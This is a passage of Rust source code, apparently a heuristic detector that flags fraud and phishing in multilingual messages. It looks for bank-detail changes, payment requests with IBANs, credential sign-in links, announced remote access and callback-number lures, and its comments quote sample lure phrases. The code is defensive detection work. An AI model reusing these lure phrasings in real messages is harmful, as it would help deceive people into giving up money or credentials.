    fn code_printed_after(&self, ob: usize) -> bool {
        self.toks.iter().skip(ob + 1).take(2).any(|t| {
            let w = &self.buffer[t.start..t.end];
            w.len() >= 6
                && w.bytes().all(|b| b.is_ascii_alphanumeric())
                && w.bytes().any(|b| b.is_ascii_digit())
        })
    }

    /// The word that points the clause at a web page: a link written in
    /// the clause or close around it (within its sentence, or a line
    /// before or after), the page named ("via the link below"), or the
    /// next link down when the clause says "below".
    fn pointed(&self, v: &View<'_>) -> Option<usize> {
        const AROUND: usize = 12;
        /// Words a "below" may point past to its link: a few sentences.
        const BELOW_REACH: usize = 60;
        let toks = self.toks;
        if let Some(i) = v.first(C::O_LINK) {
            return Some(i);
        }
        let from = v.range.start.saturating_sub(AROUND);
        let to = (v.range.end + AROUND).min(toks.len());
        (from..to)
            .find(|&i| toks[i].link && !toks[i].quoted)
            // "Confirm it on the page below. It takes a minute, ...
            // https://...": "below" points past the sentences between, to
            // the next link down.
            .or_else(|| {
                v.first(C::BELOW)?;
                let to = (v.range.end + BELOW_REACH).min(toks.len());
                (v.range.end..to).find(|&i| toks[i].link && !toks[i].quoted)
            })
    }

    /// The verb and object of a payment request in a clause: a destination
    /// changed, money moved to an account, payee or amount given, gift cards
    /// bought, pay redirected. An invoice to pay as usual is none.
    fn payment(
        &self,
        v: &View<'_>,
        need: bool,
        obliged: bool,
        bare: bool,
    ) -> Option<(usize, Option<usize>)> {
        let all = v.all();
        let has = |c: C| all & c.bit() != 0;
        let toks = self.toks;
        let around = self.sentence_cls | all;
        let near = |c: C| around & c.bit() != 0;
        let destination =
            near(C::O_PAY_DEST) || near(C::O_ACCOUNT) || near(C::O_PAYEE) || near(C::BELOW);
        let pressing = near(C::NEW) || near(C::URGENT) || near(C::SECRET) || near(C::BELOW);
        let amount = v.amount().is_some() || self.sentence_amount;
        // "New" in the clause ("update the supplier"); not the verb's own
        // when it names a program after another ("the agent update"): a
        // noun, no change of payee.
        let new_besides = |vb: usize| {
            let program_noun = toks[vb].cls & C::O_SOFTWARE.bit() != 0
                && vb > v.range.start
                && toks[vb - 1].cls & C::O_SOFTWARE.bit() != 0;
            v.idx()
                .any(|j| toks[j].cls & C::NEW.bit() != 0 && (j != vb || !program_noun))
        };
        // "Order a monitor for the new contractor": a thing is the verb's
        // object, and the payee after it only whom it is for.
        let thing_between = |vb: usize, ob: usize| {
            let things = bits(&[C::O_DEVICE, C::O_SOFTWARE, C::O_ACCESS, C::O_CREDENTIAL]);
            vb < ob
                && (vb + 1..ob).any(|j| {
                    toks[j].cls & things != 0
                        && (j + 1..ob)
                            .any(|k| matches!(self.word(k), "for" | "für" | "pour" | "para"))
                })
        };
        if self.destination_names_process(v) || self.in_instalments(v) {
            return None;
        }
        // An English verb in -s has a subject of its own ("second person
        // approves in the ERP, first payment to the new account is held"):
        // a practice described, not the reader's act.
        // "Validez avec votre compte": an account after "with" is the means
        // of the act, not where money goes.
        let means = |ob: usize| {
            (ob.saturating_sub(3).max(v.range.start)..ob).any(|j| toks[j].cls & C::WITH.bit() != 0)
        };
        let pay = |ob: C| {
            v.pair(C::V_PAY, ob)
                .filter(|&(vb, ob)| !self.third_person_en(vb) && !means(ob))
        };
        // "Registra este número nuevo en mi cuenta para los códigos": an
        // account that is also a sign-in's, beside codes or passwords, is
        // no bank account.
        let sign_in = has(C::O_CODE) || has(C::O_MFA) || has(C::O_CREDENTIAL);
        let bank = |(vb, ob): (usize, usize)| {
            (!sign_in || toks[ob].cls & C::O_ACCOUNT.bit() == 0).then_some((vb, ob))
        };
        if let Some((vb, ob)) = v
            .pair(C::V_CHANGE, C::O_PAY_DEST)
            .and_then(bank)
            .or_else(|| v.pair(C::NEW, C::O_PAY_DEST).and_then(bank))
            .or_else(|| pay(C::O_TRANSFER))
            .or_else(|| pay(C::O_PAY_DEST))
            .or_else(|| pay(C::O_GIFT))
            // "The payroll record": an English noun before the verb's
            // word makes a compound, no change of pay.
            .or_else(|| {
                v.pair(C::V_CHANGE, C::O_PAYROLL)
                    .filter(|&(vb, ob)| !(self.langs[0] == EN && ob + 1 == vb))
            })
            .or_else(|| v.pair(C::NEW, C::O_PAYROLL))
            .or_else(|| pay(C::O_PAYMENT).filter(|_| pressing || amount && destination))
            .or_else(|| pay(C::O_PAYEE).filter(|_| pressing || amount))
            .or_else(|| {
                v.pair(C::V_CHANGE, C::O_PAYEE)
                    .filter(|&(vb, ob)| new_besides(vb) && !thing_between(vb, ob))
            })
            // "Pay these to our secondary account": a plain "account" is a
            // destination when money is paid into it and it is new.
            // Not beside a code or a password: "send me your login".
            .or_else(|| pay(C::O_ACCOUNT).and_then(bank).filter(|_| near(C::NEW)))
            .or_else(|| {
                v.pair(C::V_ENROL, C::O_PAYEE).filter(|&(vb, ob)| {
                    // "From the link below": after an article, a noun.
                    let noun = vb > v.range.start && toks[vb - 1].cls & C::ARTICLE.bit() != 0;
                    new_besides(vb) && !noun && !thing_between(vb, ob)
                })
            })
            .or_else(|| {
                v.pair(C::V_CHANGE, C::O_PAYMENT)
                    .filter(|&(vb, _)| has(C::BELOW) || new_besides(vb))
            })
            .or_else(|| self.change_passed_on(v))
            // "Le RIB est inchangé ... Peux-tu la valider ?": a destination
            // taken up from a sentence that says it has not changed.
            .filter(|&(_, ob)| v.range.contains(&ob) || !self.said_unchanged(ob))
        {
            return Some((vb, Some(ob)));
        }
        // A verb that is itself a transfer ("transfer", "wire", "überweisen"),
        // with an amount or a destination.
        if let Some(vb) = v
            .idx()
            .find(|&i| toks[i].cls & C::V_PAY.bit() != 0 && toks[i].cls & C::O_TRANSFER.bit() != 0)
            && (v.amount().is_some() || destination)
        {
            return Some((vb, v.amount()));
        }
        // The amount may stand in an aside of the clause ("pay the
        // attached today (EUR 23,850)"); not in another clause ("I need to
        // buy a modem quick, and the shop has them for 65").
        let aside_amount = (v.range.start..(v.range.end + 8).min(toks.len()))
            .any(|i| toks[i].aside && !v.aside && toks[i].amount);
        if let Some(vb) = v.first(C::V_PAY)
            && (v.amount().is_some() || aside_amount)
            && (destination || pressing)
        {
            return Some((vb, v.amount()));
        }
        // Paying a given sum: an invoice or payment with its amount in the
        // clause, an aside, the sentence before or the line after ("please
        // include invoice 2026-1187 in Thursday's payment run. EUR 48,310",
        // "bitte die Rechnung (EUR 14.280) mit dem nächsten Zahllauf
        // bezahlen"). Money moved on an email's word wants the requester
        // proven, however usual the destination. Asked for in words
        // ("please", "can you", "bitte"), not a bare verb, which may be a
        // noun ("Done - run released, 38 payments, £412,880"): `bare`.
        let amount_before = v.back.clone().any(|i| toks[i].amount);
        let amount_after = toks[v.range.end.min(toks.len())..]
            .iter()
            .take(8)
            .take_while(|t| t.sep < Sep::Paragraph)
            .any(|t| t.amount);
        if !bare
            && (amount || aside_amount || amount_before || amount_after)
            && let Some(ob) = v.first(C::O_PAYMENT).or_else(|| {
                // "Kindly settle the enclosed by Monday": what is attached
                // to a request to pay is the bill.
                v.idx().find(|&i| {
                    toks[i].cls & C::BELOW.bit() != 0
                        && (i.saturating_sub(2).max(v.range.start)..i).any(|j| self.pays_itself(j))
                })
            })
            && let Some(vb) = v.idx().find(|&i| {
                i != ob
                    && (toks[i].cls & C::V_PAY.bit() != 0
                        || ["includ", "inclu", "aufnehm", "add", "ajout", "anad"]
                            .iter()
                            .any(|p| self.word(i).starts_with(p))
                        || self.placed_into_payment(v, i))
            })
        {
            return Some((vb, Some(ob)));
        }
        // Paying on a page the message links to, an amount named in the
        // sentence or the one before: "pay now to schedule redelivery:
        // https://...", "sólo tiene que pagar 4,95 EUR con su tarjeta:".
        if let Some(vb) = v.idx().find(|&i| self.pays_itself(i))
            && (amount || aside_amount || amount_before)
            && self.pointed(v).is_some()
        {
            return Some((vb, v.amount()));
        }
        // "I need a transfer today": needed money, with an amount, a
        // destination or pressure; or gift cards. Money that must go out
        // (an obligation with a transfer and its amount) is needed as much;
        // a gift card one must do something to receive is a reward.
        if (need || obliged)
            && let Some(ob) = v
                .first(C::O_TRANSFER)
                .filter(|_| amount || destination || pressing || obliged && amount_before)
                .or_else(|| v.first(C::O_GIFT).filter(|_| need))
        {
            return Some((ob, None));
        }
        None
    }

    /// "Kann ich das in Raten zahlen?", "pagar a plazos",
    /// "pay it in instalments": paying in parts is the payer's own plan,
    /// asked about by whoever pays. Not with a destination or anything new
    /// in the clause ("the instalments go to our new account").
    fn in_instalments(&self, v: &View<'_>) -> bool {
        let destination = bits(&[C::O_PAY_DEST, C::O_PAYEE, C::O_ACCOUNT, C::NEW]);
        v.all() & destination == 0
            && v.idx().skip(1).any(|i| {
                matches!(
                    (self.word(i - 1), self.word(i)),
                    ("in", "raten" | "instalments" | "installments")
                        | ("a", "plazos")
                        | ("en", "cuotas" | "plusieurs")
                        | ("par", "mensualites")
                )
            })
    }

    /// Paying itself ("pay", "bezahlen", "régler", "abonar"), not "send",
    /// "make" or "process".
    fn pays_itself(&self, i: usize) -> bool {
        self.toks[i].cls & C::V_PAY.bit() != 0
            && [
                "pay", "paie", "pag", "abon", "zahl", "bezahl", "begleich", "regl", "settle",
            ]
            .iter()
            .any(|p| self.word(i).starts_with(p))
    }

    /// A verb of putting ("take", "put", "mettre", "meter") whose
    /// destination, after "in"/"en"/"dans", is a payment word of the clause:
    /// an invoice put into a payment run is paid ("bitte die Rechnung in den
    /// Zahllauf nehmen", "¿la metes en la remesa del jueves?").
    fn placed_into_payment(&self, v: &View<'_>, vb: usize) -> bool {
        let w = self.word(vb);
        let placing = [
            "nehm", "nimm", "mett", "mets", "meter", "mete", "poner", "pong", "ponl", "put",
        ]
        .iter()
        .any(|p| w.starts_with(p));
        placing
            && v.idx().any(|j| {
                j != vb
                    && self.toks[j].cls & (C::O_PAYMENT.bit() | C::O_TRANSFER.bit()) != 0
                    && (j.saturating_sub(3).max(v.range.start)..j)
                        .any(|k| self.toks[k].cls & (C::DEADLINE_PREP.bit() | C::TOWARD.bit()) != 0)
            })
    }

    /// The word at `ob` is a channel: "via", "über", "through", "par",
    /// "por" stands before it (an article or a possessive between).
    fn channel_before(&self, ob: usize) -> bool {
        (ob.saturating_sub(3)..ob).rev().any(|j| {
            matches!(
                self.word(j),
                "via" | "uber" | "through" | "par" | "por" | "mediante" | "mittels"
            ) && (j + 1..ob)
                .all(|k| self.toks[k].cls & bits(&[C::ARTICLE, C::WRITER_OWN, C::READER_OWN]) != 0)
        })
    }

    /// An English verb in its third-person form ("approves", "pays"), read
    /// in an English clause.
    fn third_person_en(&self, vb: usize) -> bool {
        let w = self.word(vb);
        self.langs[0] == EN && w.len() > 3 && w.ends_with('s') && !w.ends_with("ss")
    }

    /// "The new bank-detail approval workflow": the destination's words
    /// qualify a process noun after them; the clause names a process, not
    /// a destination.
    fn destination_names_process(&self, v: &View<'_>) -> bool {
        v.all() & C::PROCESS.bit() != 0
            && v.idx().any(|i| {
                self.toks[i].cls & C::O_PAY_DEST.bit() != 0 && v.near(i, C::PROCESS, 0, 2).is_some()
            })
    }

    /// Statements that ask without asking: "our bank details have changed",
    /// "I will connect to your PC at ten".
    fn declared(&mut self, v: &View<'_>) -> bool {
        let all = v.all();
        let has = |c: C| all & c.bit() != 0;
        // "Every remote session we run ...": a habit described, not a plan.
        // "Nous ne lançons une prise en main que sur ...": a rule ("only
        // when"), not a plan.
        // The writer's technician counts as the writer ("one of our
        // engineers can connect to it"), the reader's machine named in the
        // clause or in its sentence.
        let writers_side = has(C::WRITER_SUBJECT)
            || has(C::SUPPORT_ROLE) && (has(C::WRITER_OWN) || has(C::ADDRESSEE));
        // "I'll connect remotely": to the reader's side, whatever machine
        // the sentence before named ("the remote side" is another's).
        let connect_remotely = v
            .idx()
            .filter(|&c| self.toks[c].cls & C::V_CONNECT.bit() != 0)
            .find_map(|c| v.near(c, C::REMOTELY, 0, 2).map(|r| (c, r)));
        let readers_machine = has(C::ADDRESSEE)
            || self.sentence_cls & bits(&[C::ADDRESSEE, C::O_DEVICE])
                == bits(&[C::ADDRESSEE, C::O_DEVICE])
            || connect_remotely.is_some();
        if writers_side
            && readers_machine
            && !has(C::BULK)
            && !has(C::NEGATION)
            && !self.told_as_done(v)
        {
            let remote = v
                .pair(C::V_CONNECT, C::O_DEVICE)
                .or_else(|| v.pair(C::WRITER_SUBJECT, C::O_REMOTE))
                .or(connect_remotely);
            if let Some((a, b)) = remote {
                let why = format!(
                    "the writer will connect: \"{}\" \"{}\"",
                    self.word(a),
                    self.word(b)
                );
                self.push(RiskCategory::RemoteAccess, why, &v.range, None);
                return true;
            }
        }
        self.declared_payment_change(v) || self.sign_in_offered(v)
    }

    /// "J'ai pris la main ce matin sur ton PC", "we have installed
    /// the driver", "ich habe mich gestern aufgeschaltet", "ayer me conecté":
    /// the writer tells what was done (a past auxiliary of the writer's, or
    /// a day gone by), which announces nothing to come.
    fn told_as_done(&self, v: &View<'_>) -> bool {
        let writer = |i: usize| {
            v.range.contains(&i)
                && (self.toks[i].cls & C::WRITER_SUBJECT.bit() != 0
                    || matches!(self.word(i), "i" | "j" | "je" | "ich" | "yo" | "me" | "nos"))
        };
        // Next to the writer: "we have", "habe ich", "je me suis".
        let by_writer =
            |i: usize| writer(i + 1) || i > 0 && writer(i - 1) || i > 1 && writer(i - 2);
        // The word after the auxiliary, past small adverbs and pronouns.
        let participle = |i: usize| {
            v.idx()
                .skip_while(|&k| k <= i)
                .find(|&k| {
                    !matches!(
                        self.word(k),
                        "already" | "just" | "me" | "nous" | "deja" | "bien" | "ya"
                    )
                })
                .map(|k| self.word(k))
        };
        v.idx().any(|i| {
            let w = self.word(i);
            match self.langs[0] {
                EN => {
                    w == "yesterday"
                        // "We saw an unusual login", "I connected to it".
                        || w.len() > 4 && w.ends_with("ed") && i > 0 && writer(i - 1)
                        || matches!(w, "have" | "ve" | "had")
                            && by_writer(i)
                            && participle(i).is_some_and(|p| {
                                p.len() > 3 && p.ends_with("ed")
                                    || matches!(
                                        p,
                                        "done" | "set" | "run" | "put" | "got" | "taken" | "sent"
                                    )
                            })
                }
                DE => {
                    w == "gestern"
                        || matches!(w, "habe" | "haben" | "hatte" | "hatten") && by_writer(i)
                }
                FR => {
                    w == "hier"
                        || matches!(w, "ai" | "avons" | "suis" | "sommes")
                            && by_writer(i)
                            && participle(i).is_some_and(|p| {
                                (p.ends_with('e') || p.ends_with('i') || p.ends_with("is"))
                                    && !matches!(
                                        p,
                                        "disponible" | "pret" | "prete" | "desole" | "desolee"
                                    )
                            })
                }
                ES => {
                    matches!(w, "ayer" | "anoche")
                        || matches!(w, "he" | "hemos")
                            && participle(i)
                                .is_some_and(|p| p.ends_with("ado") || p.ends_with("ido"))
                }
                _ => false,
            }
        })
    }

    /// A token of four digits from 1900 to 2099: a year.
    fn is_year(&self, t: &Tok) -> bool {
        let w = &self.buffer[t.start..t.end];
        w.len() == 4
            && (w.starts_with("19") || w.starts_with("20"))
            && w.bytes().all(|b| b.is_ascii_digit())
    }

    /// The clause, or a main clause of its sentence, says "as usual".
    fn usual(&self, v: &View<'_>) -> bool {
        self.sentence_usual || v.all() & C::UNCHANGED.bit() != 0
    }

    /// Signing in with the reader's own work account, offered on a page the
    /// message links to ("the form lets you sign in directly with your work
    /// account: https://..."): credentials typed into a page of the
    /// writer's choosing, whether or not it is put as an order. A sign-in
    /// "as usual" asks for nothing new.
    fn sign_in_offered(&mut self, v: &View<'_>) -> bool {
        let toks = self.toks;
        let words: Vec<usize> = v.idx().collect();
        let own_account = |s: usize| {
            // After the verb, or before it where German puts the verb last
            // ("mit Ihrem Geschäftskonto anmelden").
            let at = words.iter().position(|&i| i == s).unwrap_or(0);
            let around = &words[at.saturating_sub(6)..words.len().min(at + 7)];
            around.iter().copied().filter(|&i| i != s).any(|i| {
                // "entra con tu correo": the mail address is the login.
                toks[i].cls & bits(&[C::O_ACCOUNT, C::O_CREDENTIAL, C::O_IDENTITY]) != 0
                    // "Ihrem eigenen Schul-E-Mail-Konto": words between.
                    && v.near(i, C::READER_OWN, 4, 0).is_some()
            })
                // "Your usual sign-in", "your employer's Microsoft sign-in":
                // the sign-in itself, a noun, owned by the reader.
                || v.near(s, C::READER_OWN, 4, 0).is_some()
        };
        // "You can keep your current password by confirming it here": the
        // reader's own password, kept or confirmed on the writer's page.
        let kept = || {
            v.idx()
                .filter(|&i| toks[i].cls & bits(&[C::V_KEEP, C::V_VERIFY]) != 0)
                .find(|&i| {
                    // German puts the verb last: "Ihr Kennwort hier beibehalten".
                    v.near(i, C::O_CREDENTIAL, 5, 4)
                        .is_some_and(|c| self.readers_own(c, toks[c].aside))
                })
        };
        let Some(s) = v
            .first(C::V_SIGNIN)
            .filter(|&s| own_account(s))
            .or_else(kept)
        else {
            return false;
        };
        let Some(link) = self.pointed(v) else {
            return false;
        };
        // Keeping the password "as before" is the offer itself, not a
        // sign-in as usual.
        let usual = toks[s].cls & C::V_KEEP.bit() == 0 && self.usual(v);
        let what = if toks[s].cls & C::V_SIGNIN.bit() != 0 {
            "sign-in with the reader's account"
        } else {
            "the reader's own password kept or confirmed"
        };
        let why = format!(
            "{what} offered{}: \"{}\" on the page after \"{}\"",
            if usual { " as usual" } else { "" },
            self.word(s),
            self.word(link)
        );
        self.push_found(RiskCategory::CredentialReset, why, &v.range, None, usual);
        !usual
    }

    /// "Our bank details have changed", "notre nouveau RIB", "unsere neue
    /// Bankverbindung": the writer announces a new destination for money.
    fn declared_payment_change(&mut self, v: &View<'_>) -> bool {
        let all = v.all();
        // "Payments should go to our new account": the writer's new
        // account, in a clause about paying, is a destination.
        if all & C::UNCHANGED.bit() == 0
            && all & bits(&[C::O_PAYMENT, C::O_TRANSFER]) != 0
            && let Some((n, a)) = v.pair(C::NEW, C::O_ACCOUNT)
            && let Some(o) = v.near(a, C::WRITER_OWN, 3, 0)
        {
            let why = format!(
                "announced by \"{}\"; changed \"{}\"; destination \"{}\"",
                self.word(o),
                self.word(n),
                self.word(a)
            );
            self.push(RiskCategory::PaymentChange, why, &v.range, None);
            return true;
        }
        if all & C::UNCHANGED.bit() != 0
            || all & C::O_PAY_DEST.bit() == 0
            || self.changes_in_general(v)
        {
            return false;
        }
        // "Emails asking to change their salary account": what others ask.
        if all & C::ASK.bit() != 0 || self.destination_names_process(v) {
            return false;
        }
        let own = v
            .first(C::WRITER_OWN)
            .or_else(|| v.first(C::WRITER_SUBJECT))
            // "Supplier bank changes - how we handle them": a practice.
            .filter(|&o| v.near(o, C::MANNER, 1, 0).is_none());
        let changed = v
            .pair(C::NEW, C::O_PAY_DEST)
            .or_else(|| v.pair(C::V_CHANGE, C::O_PAY_DEST).filter(|_| own.is_some()))
            // 'Invoices with "new bank details" are checked': a quoted
            // phrase is mentioned, not announced.
            .filter(|&(n, d)| !(self.toks[n].label && self.toks[d].label))
            // "Tout changement de coordonnées bancaires se fait ...", "any
            // change of bank details": every change, a practice.
            .filter(|&(n, _)| v.near(n, C::BULK, 2, 0).is_none());
        // A new destination is announced by its owner ("our new IBAN"), or
        // in the third person ("Ledgerline has moved to a new bank account",
        // "Herr Demir hat mir seine neue Bankverbindung gegeben"); the
        // reader's own account ("your new account") is another matter.
        let third_person = changed.filter(|&(n, _)| {
            // A new thing ("neue", "new"), said in a sentence with a verb,
            // in the body: not a headline, not "changes to bank details".
            let toks = self.toks;
            let d = v.pair(C::NEW, C::O_PAY_DEST).map_or(n, |(_, d)| d);
            let dest = self.word(d);
            toks[n].cls & C::V_CHANGE.bit() == 0
                && !matches!(dest, "bank" | "banks" | "banque" | "banco" | "bancos")
                && toks[v.range.start].start >= self.subject_end
                // "Your new account": the reader's, just before it; "ci-joint
                // le RIB du nouveau compte" hands the writer's to you.
                && v.near(d, C::ADDRESSEE, 3, 0).is_none()
                && v.near(d, C::READER_OWN, 3, 0).is_none()
                // A verb, or "attached" ("adjunto", "ci-joint") handing
                // the details over.
                && v.idx().any(|i| {
                    i != n && (is_verb(toks[i].cls) || toks[i].cls & C::BELOW.bit() != 0)
                })
        });
        let owner = own.or(third_person.map(|(n, _)| n));
        match (owner, changed) {
            (Some(o), Some((n, d))) => {
                let why = format!(
                    "announced by \"{}\"; changed \"{}\"; destination \"{}\"",
                    self.word(o),
                    self.word(n),
                    self.word(d)
                );
                self.push(RiskCategory::PaymentChange, why, &v.range, None);
                true
            }
            _ => false,
        }
    }

    /// Structured data: a valid IBAN, or an account number with a routing
    /// number or sort code, given where a payment is asked for.
    fn structured(&mut self, clauses: &[Clause]) {
        let toks = self.toks;
        let mut iban: Option<(Iban, usize)> = None;
        for i in 0..toks.len() {
            if let Some(found) = iban_at(self.buffer, toks, i) {
                iban = Some((found, i));
                break;
            }
        }
        // "Sort code: 04-00-75, Account: 31928844": the sort code's three
        // groups stand between.
        let numbers = (0..toks.len()).find(|&i| {
            toks[i].cls & C::O_PAY_DEST.bit() != 0
                && toks[i + 1..]
                    .iter()
                    .filter(|t| !t.covered)
                    .take(5)
                    .any(|t| t.digits && t.end - t.start >= 6)
        });
        let Some(at) = iban.as_ref().map(|(_, i)| *i).or(numbers) else {
            return;
        };
        // Details alone are a letterhead; asked to pay to them, or told
        // they are new, they are a payment request.
        let pay_asked = clauses.iter().any(|c| {
            let v = View::of_clause(toks, self.visible, c);
            let all = v.all();
            // The details follow: "below", or the clause ends in a colon.
            let points_below =
                || all & C::BELOW.bit() != 0 || v.idx().next_back().is_some_and(|j| toks[j].colon);
            all & (C::NEGATION.bit() | C::UNCHANGED.bit()) == 0
                && (v.pair(C::V_PAY, C::O_TRANSFER).is_some()
                    || all & C::O_TRANSFER.bit() != 0 && self.act(&v).is_some()
                    || v.pair(C::V_PAY, C::O_PAY_DEST).is_some()
                    || all & C::O_PAYMENT.bit() != 0
                        && v.idx().any(|j| self.pays(j))
                        && points_below()
                    || v.pair(C::NEW, C::O_PAY_DEST).is_some()
                    || v.pair(C::V_CHANGE, C::O_PAY_DEST).is_some()
                    // "Wir bitten Zahlungen ausschließlich auf folgendes
                    // Konto:", "we ask that payments go to the account
                    // below": asked, the verb of paying left out.
                    || all & C::O_PAYMENT.bit() != 0
                        && all & C::O_PAY_DEST.bit() != 0
                        && all & bits(&[C::ASK, C::POLITE]) != 0
                        && self.act(&v).is_some()
                        && points_below())
        });
        if pay_asked {
            let clause = clauses
                .iter()
                .find(|c| c.toks.contains(&at))
                .map_or(at..at + 1, |c| c.toks.clone());
            let (why, indicator) = match &iban {
                Some((found, _)) => (
                    format!(
                        "IBAN {}{} given with a payment request",
                        found.number,
                        if found.checked {
                            ""
                        } else {
                            " (its check digits fail)"
                        }
                    ),
                    Some(found.number.clone()),
                ),
                None => (
                    "account number given with a payment request".to_owned(),
                    None,
                ),
            };
            self.push(RiskCategory::PaymentChange, why, &clause, indicator);
        }
    }

    fn lures(
        &mut self,
        clauses: &[Clause],
        phone_at: &[(usize, String)],
        flags: &Flags,
        requested: bool,
    ) {
        let toks = self.toks;
        let writer_applies = flags.applying;
        // A job offer names the job in more than one way ("position",
        // "salary", "interview"), not one word twice.
        let mut job_lemmas: Vec<u32> = toks
            .iter()
            .filter(|t| t.cls & C::JOB.bit() != 0 && !t.quoted)
            .map(|t| t.lemma[0])
            .collect();
        job_lemmas.sort_unstable();
        job_lemmas.dedup();
        let job_kinds = job_lemmas.len();
        // The sentence and clause start where the writer found a problem on
        // the reader's machine (the latest, and the one before it: a subject
        // line naming the problem is further from the offer than the body
        // saying it again, which may be the offer's own clause), and the
        // first offer of help with its word and clause.
        let mut found_problem: Option<(usize, usize)> = None;
        let mut earlier_problem: Option<(usize, usize)> = None;
        let mut offered_help: Option<(usize, usize, Range<usize>)> = None;
        // A clause where the writer or their technician will call or
        // connect to the reader ("I'll ring you at three", "un técnico se
        // conectará a su equipo"), with the word that says so.
        let mut writer_calls: Option<(usize, Range<usize>)> = None;
        // A problem on the reader's machine or account, said as a finding
        // (no ask in it, nothing of the writer's own: "my phone is lost"
        // is the writer's trouble).
        let mut reader_problem: Option<Range<usize>> = None;
        // The writer's side sets out to fix the reader's trouble ("to fix
        // it I need to look at your laptop", "we can sort your login out
        // remotely"): help offered, which a risky ask then trades on.
        let mut writer_fixes: Option<(usize, Range<usize>)> = None;
        // Two readings: the offers and scares first, then the numbers to
        // call that they are tied to.
        for pass in 0..2 {
            for (n, clause) in clauses.iter().enumerate() {
                let v = View::of_clause(toks, self.visible, clause);
                let all = v.all();
                let hypothetical = v
                    .idx()
                    .find(|&i| {
                        toks[i].cls & C::FILLER.bit() == 0 || toks[i].cls & C::CONDITION.bit() != 0
                    })
                    .is_some_and(|i| toks[i].cls & C::CONDITION.bit() != 0);
                let negated = all & C::NEGATION.bit() != 0;
                let reported = all & C::THIRD_PARTY.bit() != 0;
                let free = !hypothetical && !negated && !reported;
                let has = |c: C| all & c.bit() != 0;
                self.may_command = true;
                // Only clauses with a lure word need their act read.
                let lure_words = bits(&[
                    C::V_CALL,
                    C::REWARD,
                    C::FREE,
                    C::PATCH,
                    C::SECRET,
                    C::V_KEEP,
                    C::MUST,
                    C::THREAT,
                    C::URGENT,
                    C::PATCH,
                    C::DEADLINE,
                ]);
                // The second reading only needs the act of a clause that
                // says "call".
                let wanted = if pass == 0 {
                    lure_words
                } else {
                    C::V_CALL.bit()
                };
                let act = if free && all & wanted != 0 {
                    self.act(&v)
                } else {
                    None
                };

                // Callback: a number to call, tied to a charge, a refund, a scare
                // or offered help.
                // The number may be offered as the condition of the help:
                // "the charge can be reversed if you phone us today".
                // Or the sentence opens on the reader's condition and its
                // main clause names the way: "if this order is not yours,
                // refunds go through our hotline: <number>" (the phone
                // itself, a "hotline", may stand for the verb).
                let condition_before = clauses[..n]
                    .iter()
                    .rev()
                    .take_while(|c| c.sentence == clause.sentence)
                    .any(|c| {
                        c.toks
                            .clone()
                            .any(|i| toks[i].cls & C::CONDITION.bit() != 0)
                            && c.toks
                                .clone()
                                .any(|i| toks[i].cls & C::ADDRESSEE.bit() != 0)
                    });
                let on_condition = |c: usize| {
                    free && (has(C::CONDITION)
                        && v.idx()
                            .take_while(|&i| i < c)
                            .any(|i| toks[i].cls & C::ADDRESSEE.bit() != 0)
                        || condition_before)
                };
                if pass == 1
                    && !negated
                    && let Some(call) = v
                        .first(C::V_CALL)
                        .filter(|&c| {
                            !toks[c].colon && (act.is_some() || on_condition(c))
                                // After the reader's condition the number
                                // may follow a colon ("..., by phone: ...").
                                || free && condition_before
                        })
                        // "..., a refund goes through our hotline": the
                        // phone named as the way, after the condition; or
                        // the way to object ("a cancellation is only
                        // possible by phone: ...").
                        .or_else(|| {
                            v.first(C::PHONE_LINE).filter(|&c| {
                                act.is_none()
                                    && (condition_before
                                        || !toks[c].colon && on_condition(c)
                                        || free && has(C::CANCEL))
                            })
                        })
                    && (flags.cancel
                        || self.threatened
                        || self.found.iter().any(|f| {
                            matches!(
                                f.category,
                                RiskCategory::Scare
                                    | RiskCategory::RewardLure
                                    | RiskCategory::FakeTechSupport
                                    | RiskCategory::FreeUpgrade
                                    | RiskCategory::JobOffer
                            )
                        })
                        || has(C::URGENT)
                            && (has(C::O_ACCOUNT) || has(C::O_CREDENTIAL))
                            && has(C::ADDRESSEE)
                        // "Please call our line immediately and have the
                        // admin password ready": asked of the reader, with
                        // a secret to give on the call.
                        || has(C::URGENT) && has(C::O_CREDENTIAL) && act.is_some())
                {
                    let near = phone_at
                        .iter()
                        .find(|(p, _)| *p + 40 >= clause.toks.start && *p <= clause.toks.end + 40);
                    let line = v
                        .idx()
                        .any(|i| i != call && toks[i].cls & C::PHONE_LINE.bit() != 0);
                    let any = phone_at.first().filter(|_| line);
                    if let Some((_, number)) = near.or(any) {
                        let why = format!(
                            "call \"{}\" with a number given, after a {}",
                            self.word(call),
                            if flags.cancel {
                                "charge to cancel or dispute"
                            } else if flags.scare || self.threatened {
                                "scare"
                            } else {
                                "offer"
                            }
                        );
                        self.push(
                            RiskCategory::CallbackBait,
                            why,
                            &clause.toks,
                            Some(number.clone()),
                        );
                    }
                }

                if pass == 1 {
                    if free
                        && let Some(u) = v.first(C::URGENT)
                        && self
                            .found
                            .iter()
                            .any(|f| f.category == RiskCategory::CallbackBait)
                    {
                        let why = format!("\"{}\" on a number to call", self.word(u));
                        self.push(RiskCategory::Urgency, why, &clause.toks, None);
                    }
                    continue;
                }

                // Scare: something wrong with the reader's account, device or money.
                if free
                    && let Some(s) = v.first(C::SCARE)
                    && (has(C::ADDRESSEE) || has(C::WRITER_SUBJECT))
                    && (has(C::O_ACCOUNT)
                        || has(C::O_DEVICE)
                        || has(C::TRANSACTION)
                        || has(C::O_CREDENTIAL)
                        || has(C::O_PAYMENT))
                {
                    let why = format!(
                        "\"{}\" about the reader's account, device or money",
                        self.word(s)
                    );
                    self.push(RiskCategory::Scare, why, &clause.toks, None);
                }

                // An offer the clause itself calls fake ("bogus prize
                // draws") is warned against, not made.
                let warned = has(C::WARNING);
                // Reward: a prize or gift to claim, a survey to fill in.
                // Gift vouchers offered are a reward too; so is an offer
                // to everyone the reader is one of ("à chaque salarié",
                // "to every employee").
                let to_everyone = v.idx().any(|b| {
                    matches!(
                        self.word(b),
                        "every" | "each" | "chaque" | "jede" | "jeder" | "jedem" | "jeden" | "cada"
                    ) && v
                        .near(b, C::O_PEOPLE, 0, 2)
                        .or_else(|| v.near(b, C::OTHERS, 0, 2))
                        .is_some()
                });
                let gift_offered = v
                    .pair(C::OFFER, C::O_GIFT)
                    .or_else(|| {
                        v.pair(C::V_GIVE, C::O_GIFT)
                            .or_else(|| v.pair(C::V_GIVE, C::REWARD))
                            .filter(|_| to_everyone && !has(C::WRITER_OBJECT))
                    })
                    .map(|(_, g)| g);
                if free
                    && !warned
                    && let Some(r) = v.first(C::REWARD).or(gift_offered)
                    && (flags.survey
                        || (v.pair(C::OFFER, C::REWARD).is_some() || gift_offered.is_some())
